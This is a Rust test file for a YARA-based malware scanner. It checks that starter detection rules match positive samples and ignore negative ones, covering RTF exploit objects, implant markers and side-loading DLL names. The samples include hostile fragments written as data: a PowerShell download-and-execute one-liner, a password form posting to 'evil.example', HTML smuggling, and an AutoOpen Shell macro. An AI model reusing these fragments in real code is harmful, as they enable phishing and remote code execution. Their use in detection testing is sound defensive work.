//! Every starter rule fires on a positive sample and stays quiet on a
//! negative one; rule folders load with diagnostics, not failures.

use counterspy_model::{FindingKind, Severity};
use counterspy_yara::{ObjectScanner, RuleSet, RuleSetBuilder, ScanContext};

fn starter() -> RuleSet {
    let rules = RuleSetBuilder::new().with_starter_rules().build();
    assert!(rules.diagnostics().is_empty(), "{:?}", rules.diagnostics());
    rules
}

fn hits(rules: &RuleSet, data: &[u8]) -> Vec<String> {
    let mut scanner = ObjectScanner::new(rules);
    let findings = scanner.scan(data, &ScanContext::default()).unwrap();
    findings.iter().map(|f| f.rule.as_ref().unwrap().name.clone()).collect()
}

fn hex(s: &str) -> String {
    s.bytes().map(|b| format!("{b:02x}")).collect()
}

fn pe_with(tail: &[u8]) -> Vec<u8> {
    let mut pe = b"MZ".to_vec();
    pe.resize(0x40, 0);
    pe.extend_from_slice(b"PE\0\0");
    pe.extend_from_slice(tail);
    pe
}

#[test]
fn each_starter_rule_has_a_positive_and_a_negative() {
    let rules = starter();
    let eq = format!(
        "{{\\rtf1{{\\object{{\\*\\objdata 01050000{}}}}}}}",
        hex("eQuAtIoN.3")
    );
    let cases: Vec<(&str, Vec<u8>, Vec<u8>)> = vec![
        ("RTF_Equation_Object_Hex", eq.into_bytes(),
            format!("{{\\rtf1{{\\*\\objdata {}}}}}", hex("Package")).into_bytes()),
        ("RTF_RoyalRoad_8t_Temp_Path",
            format!("{{\\rtf1 {}}}", hex("C:\\Temp\\8.t")).into_bytes(),
            format!("{{\\rtf1 {}}}", hex("C:\\Temp\\9.t")).into_bytes()),
        ("RTF_RoyalRoad_Object_Dimensions",
            b"{\\rtf1{\\object\\objemb\\objw2180\\objh300}}".to_vec(),
            b"{\\rtf1{\\object\\objemb\\objw2000\\objh300}}".to_vec()),
        ("RTF_Objocx_Ods_Padding",
            b"{\\rtf1{\\object\\objocx{\\*\\objdata{\\ods0000000}}}}".to_vec(),
            b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}".to_vec()),
        ("Office_Word_Addin_Startup_Drop",
            b"%APPDATA%\\Microsoft\\Word\\STARTUP\\winlog.wll".to_vec(),
            b"%APPDATA%\\Microsoft\\Word\\Templates\\normal.dotm".to_vec()),
        ("VBA_AutoExec_Shell",
            b"Sub AutoOpen()\r\n Shell \"calc\"\r\nEnd Sub".to_vec(),
            b"Sub Helper()\r\n Shell \"calc\"\r\nEnd Sub".to_vec()),
        ("Cotx_Config_Section", pe_with(b".text\0\0\0.cotx\0\0\0"),
            pe_with(b".text\0\0\0.rdata\0\0")),
        ("Cotx_Registry_Config",
            b"HKLM\\SOFTWARE\\Intel\\Java /v user".to_vec(),
            b"HKLM\\SOFTWARE\\Intel\\Graphics".to_vec()),
        ("SideLoad_Known_Hijack_Dll_Names",
            b"IntelGraphicsController.exe RasTls.dll".to_vec(),
            b"RasTls.dll alone".to_vec()),
        ("Ladon_Scanner_Strings",
            b"Ladon 10.0.0.0/24 MS17010 SmbScan OsScan".to_vec(),
            b"Ladon 10.0.0.0/24 OnlinePC".to_vec()),
        ("PortDoor_Marker_File", b"%TEMP%\\58097616.tmp".to_vec(),
            b"%TEMP%\\58097617.tmp".to_vec()),
        ("HTML_Credential_Form_External_Post",
            b"<html><form action=\"https://evil.example/p\"><input type=password>".to_vec(),
            b"<html><form action=\"/login\"><input type=password>".to_vec()),
        ("HTML_Smuggling_Blob_Download",
            b"var b=new Blob([d]);a.href=URL.createObjectURL(b);a.download='x.zip'".to_vec(),
            b"var b=new Blob([d]);".to_vec()),
        ("Script_Download_Execute",
            b"IEX (New-Object Net.WebClient).DownloadString('http://x')".to_vec(),
            b"(New-Object Net.WebClient).DownloadFile('http://x','y')".to_vec()),
    ];
    let total = rules.rule_count();
    assert_eq!(cases.len(), total, "a starter rule has no test case");
    for (rule, positive, negative) in &cases {
        assert!(
            hits(&rules, positive).contains(&rule.to_string()),
            "{rule} +"
        );
        assert!(
            !hits(&rules, negative).contains(&rule.to_string()),
            "{rule} -"
        );
    }
}

#[test]
fn findings_carry_rule_meta_severity_technique_and_offset() {
    let rules = starter();
    let mut scanner = ObjectScanner::new(&rules);
    let data = b"xxxx%TEMP%\\58097616.tmp";
    let ctx = ScanContext { filename: "a.bin", ..ScanContext::default() };
    let findings = scanner.scan(data, &ctx).unwrap();
    let f = &findings[0];
    assert_eq!(f.kind, FindingKind::YaraMatch);
    assert_eq!(f.severity, Severity::High);
    assert_eq!(f.technique.as_ref().unwrap().as_str(), "T1137.006");
    assert_eq!(f.evidence.offset, Some(11));
    let rule = f.rule.as_ref().unwrap();
    assert_eq!(rule.namespace, "counterspy/implants");
    assert_eq!(rule.meta["author"], "counterspy");
}

#[test]
fn externals_are_set_per_object_and_bad_files_are_diagnosed() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("ext.yar"),
        "rule ByName { condition: filename matches /\\.doc$/ and filetype == \"RTF\" }",
    )
    .unwrap();
    std::fs::create_dir(dir.path().join("sub")).unwrap();
    std::fs::write(dir.path().join("sub/bad.yara"), "rule { broken").unwrap();
    let mut builder = RuleSetBuilder::new();
    assert_eq!(builder.add_dir(dir.path()).unwrap(), 2);
    let rules = builder.build();
    assert_eq!(rules.diagnostics().len(), 1);
    assert!(rules.diagnostics()[0].origin.ends_with("bad.yara"));
    let mut scanner = ObjectScanner::new(&rules);
    let ctx = ScanContext {
        filename: "r.doc",
        filetype: "RTF",
        ..Default::default()
    };
    assert_eq!(scanner.scan(b"", &ctx).unwrap().len(), 1);
    let ctx = ScanContext {
        filename: "r.rtf",
        filetype: "RTF",
        ..Default::default()
    };
    assert!(scanner.scan(b"", &ctx).unwrap().is_empty());
    assert!(
        RuleSetBuilder::new().add_dir("/nonexistent/rules".as_ref()).is_err()
    );
}

#[test]
fn signature_base_loads() {
    let dir =
        std::path::Path::new("../../../shared/corpora/yara/signature-base");
    if !dir.exists() {
        eprintln!("skipped: {dir:?} not found");
        return;
    }
    let mut builder = RuleSetBuilder::new();
    let files = builder.add_dir(dir).unwrap();
    let rules = builder.build();
    println!(
        "signature-base: {files} files, {} compiled, {} rules, {} left out",
        rules.sources(),
        rules.rule_count(),
        rules.diagnostics().len()
    );
    assert!(files > 500);
    assert!(rules.rule_count() > 4000);
}
